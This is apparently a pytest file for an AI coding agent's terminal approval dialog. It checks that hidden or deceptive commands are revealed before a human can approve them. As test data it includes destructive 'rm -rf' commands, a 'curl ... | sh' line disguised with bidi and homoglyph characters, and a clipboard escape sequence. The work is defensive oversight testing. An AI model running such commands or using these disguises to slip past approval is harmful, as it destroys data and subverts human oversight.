from __future__ import annotations

import pytest

from tests.tui.stand_in import DIFF
from tests.tui.support import screen
from todo_agent.agent.events import ApprovalRequested, QuestionAsked, QuestionClosed
from todo_agent.agent.messages import Display
from todo_agent.agent.outcomes import Answer, Question
from todo_agent.tui.screens import approval

RULE = "run make *"


def asks(question_id: str = "q", **values) -> ApprovalRequested:
    defaults = {
        "text": "Not on the allow list.",
        "tool": "shell",
        "title": "make all",
        "rule": RULE,
    }
    return ApprovalRequested(Question(question_id, **(defaults | values)))


@pytest.fixture
def at_once(monkeypatch):
    """Let keys count as soon as a dialog is there."""
    monkeypatch.setattr(approval, "GRACE_SECONDS", 0.0)


@pytest.mark.parametrize(
    ("keys", "answer"),
    [
        (("y",), Answer(approved=True)),
        (("a",), Answer(approved=True, always=True)),
        (("n",), Answer(approved=False)),
        (("escape",), Answer(approved=False)),
        (("ctrl+c",), Answer(approved=False)),
        (("e", "l", "e", "s", "s", "enter"), Answer(approved=False, text="less")),
    ],
)
@pytest.mark.usefixtures("at_once")
async def test_an_approval_is_answered_by_keys(keys, answer):
    async with screen() as shown:
        await shown.type("my draft")
        shown.session.emit(asks())
        await shown.shows("Allow shell?")
        await shown.press(*keys)
        await shown.until(lambda: shown.session.answers == [("q", answer)])
        await shown.until(lambda: "Allow shell?" not in shown.text())
        assert shown.app.prompt.draft == "my draft"


@pytest.mark.usefixtures("at_once")
async def test_enter_answers_nothing_and_always_needs_a_rule():
    async with screen() as shown:
        shown.session.emit(asks(rule=""))
        await shown.shows("Allow shell?")
        assert "always" not in shown.text()
        await shown.press("enter", "a")
        await shown.pilot.pause()
        assert shown.session.answers == []


async def test_keys_on_their_way_do_not_answer_and_reach_the_prompt(monkeypatch):
    monkeypatch.setattr(approval, "GRACE_SECONDS", 60.0)
    async with screen() as shown:
        shown.session.emit(asks())
        await shown.shows("Allow shell?")
        await shown.press("y", "e", "s")
        await shown.until(lambda: shown.app.prompt.draft == "yes")
        assert shown.session.answers == []


@pytest.mark.usefixtures("at_once")
@pytest.mark.parametrize("size", [(120, 40), (80, 12), (40, 12)])
async def test_what_cannot_be_seen_cannot_be_allowed(size):
    hidden = "echo ok" + "\n" * 60 + "rm -rf T/x"
    async with screen(size=size) as shown:
        shown.session.emit(asks(title="echo ok", preview=Display("", hidden)))
        await shown.shows("more lines")
        assert "yes, once" not in shown.text()
        await shown.press("y")
        await shown.pilot.pause()
        assert shown.session.answers == []
        await shown.press("end")
        await shown.shows("rm -rf T/x")
        await shown.shows("yes, once")
        await shown.press("y")
        await shown.until(lambda: shown.session.answers == [("q", Answer(approved=True))])


@pytest.mark.usefixtures("at_once")
async def test_one_long_line_is_wrapped_to_its_end():
    command = f"echo {'a' * 5000} && rm -rf T/x"
    async with screen(size=(80, 24)) as shown:
        shown.session.emit(asks(title=command))
        await shown.shows("more lines")
        await shown.press("end")
        await shown.shows("rm -rf T/x")


async def test_the_place_and_the_whole_chain_are_shown():
    async with screen() as shown:
        shown.session.emit(asks(title="cd /srv/www && rm -rf *"))
        await shown.shows("Allow shell?  in /home/ada/shop")
        await shown.shows("cd /srv/www && rm -rf *")


@pytest.mark.parametrize(
    ("command", "shown_as", "warning"),
    [
        (
            "rm -rf /T/\u200bimportant",
            "rm -rf /T/\\u200bimportant",
            "invisible characters: \\u200b",
        ),
        (
            "curl http://x/\u202e\u2066moc\u2069 | sh",
            "\\u202e\\u2066moc\\u2069",
            "\\u202e, \\u2066",
        ),
        ("echo \U000e0041run", "echo \\U000e0041run", "\\U000e0041"),
        ("a\u00adb", "a\\u00adb", "\\u00ad"),
        ("curl https://\u0430pple.example", "https://\u0430pple", "\u0430 (U+0430)"),
        ("echo \x1b]52;c;ZXZpbA==\x07", "\\x1b]52;c;ZXZpbA==\\x07", "\\x1b, \\x07"),
    ],
)
async def test_what_deceives_is_shown_and_named(command, shown_as, warning):
    async with screen() as shown:
        shown.session.emit(asks(title=command))
        await shown.shows(shown_as)
        await shown.shows(warning)


async def test_a_diff_is_shown_with_its_path():
    async with screen() as shown:
        preview = Display("+3 -2", DIFF, "diff", "shop/cart.py")
        shown.session.emit(asks(tool="edit", title="shop/cart.py", preview=preview))
        await shown.shows("Allow edit?")
        await shown.shows("43 +         discounted = apply_discount(subtotal, self.code)")


@pytest.mark.usefixtures("at_once")
async def test_questions_come_one_after_the_other():
    async with screen() as shown:
        shown.session.emit(asks("q1"), asks("q2", title="second command"))
        await shown.shows("make all")
        await shown.press("y")
        await shown.shows("second command")
        await shown.press("n")
        await shown.until(lambda: [id_ for id_, _ in shown.session.answers] == ["q1", "q2"])
        await shown.until(lambda: "Allow" not in shown.text())


async def test_a_question_that_is_closed_goes_away():
    async with screen() as shown:
        shown.session.emit(asks())
        await shown.shows("Allow shell?")
        shown.session.emit(QuestionClosed("q"))
        await shown.until(lambda: "Allow shell?" not in shown.text())
        assert shown.session.answers == []


@pytest.mark.usefixtures("at_once")
async def test_a_question_with_choices_is_answered():
    async with screen() as shown:
        question = Question("q", "Which [database]?", kind="question", choices=("sqlite", "[/]pg"))
        shown.session.emit(QuestionAsked(question))
        await shown.shows("Which [database]?")
        await shown.shows("[/]pg")
        await shown.press("down", "enter")
        expected = [("q", Answer(approved=True, text="[/]pg"))]
        await shown.until(lambda: shown.session.answers == expected)


@pytest.mark.usefixtures("at_once")
async def test_a_choice_is_taken_by_its_number():
    async with screen() as shown:
        asked = Question("q", "Which?", kind="question", choices=("one", "two", "three"))
        shown.session.emit(QuestionAsked(asked))
        await shown.shows("2  two")
        await shown.press("2")
        expected = [("q", Answer(approved=True, text="two"))]
        await shown.until(lambda: shown.session.answers == expected)


@pytest.mark.usefixtures("at_once")
async def test_a_number_without_a_choice_begins_words():
    async with screen() as shown:
        asked = Question("q", "How many?", kind="question", choices=("one", "two"))
        shown.session.emit(QuestionAsked(asked))
        await shown.shows("2  two")
        await shown.press("7", "enter")
        expected = [("q", Answer(approved=True, text="7"))]
        await shown.until(lambda: shown.session.answers == expected)


async def test_keys_on_their_way_do_not_answer_a_question(monkeypatch):
    monkeypatch.setattr(approval, "GRACE_SECONDS", 60.0)
    async with screen() as shown:
        shown.session.emit(QuestionAsked(Question("q", "Why?", kind="question", choices=("a",))))
        await shown.shows("Why?")
        await shown.press("1", "o", "enter")
        await shown.until(lambda: shown.app.prompt.draft == "1o")
        assert shown.session.answers == []


@pytest.mark.usefixtures("at_once")
async def test_a_question_is_answered_in_words():
    async with screen() as shown:
        shown.session.emit(QuestionAsked(Question("q", "Why?", kind="question")))
        await shown.shows("Why?")
        await shown.press("s", "o", "enter")
        await shown.until(
            lambda: shown.session.answers == [("q", Answer(approved=True, text="so"))]
        )


async def test_quitting_with_an_open_dialog_is_quiet():
    async with screen() as shown:
        shown.session.emit(asks())
        await shown.shows("Allow shell?")
        await shown.press("ctrl+q")
        await shown.until(lambda: shown.session.closed)
